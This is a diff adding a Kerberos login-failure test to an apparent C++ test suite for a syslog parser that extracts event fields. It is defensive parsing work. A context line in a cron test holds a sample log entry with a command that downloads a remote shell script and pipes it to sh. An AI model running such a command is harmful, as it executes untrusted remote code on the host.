@@ -430,6 +430,19 @@ TEST(AccountChangeTest, UseraddGroupaddUsermod) {
   EXPECT_EQ(G(p, "user.name"), "alice");
 }
 
+TEST(KerberosLoginTest, FailureCarriesThePeer) {
+  Event ev =
+      D("Jun 30 20:53:04 combo klogind[19272]: Authentication failed from 163.27.187.39 "
+        "(163.27.187.39): Permission denied in replay cache code ");
+  EXPECT_EQ(G(ev, "event.action"), "kerberos_login");
+  EXPECT_EQ(G(ev, "event.outcome"), "failure");
+  EXPECT_EQ(G(ev, "source.ip"), "163.27.187.39");
+  EXPECT_EQ(G(ev, "source.domain"), "<absent>");
+  EXPECT_EQ(G(ev, "event.reason"), "Permission denied in replay cache code");
+  Event other = D("Jun 30 20:53:04 combo klogind[19272]: Kerberos authentication failed ");
+  EXPECT_EQ(G(other, "event.action"), "<absent>");
+}
+
 TEST(CronTest, Commands) {
   Event c =
       D("Nov 28 10:45:01 web1 CRON[5000]: (www-data) CMD (curl -s http://198.51.100.9/x.sh | sh)");
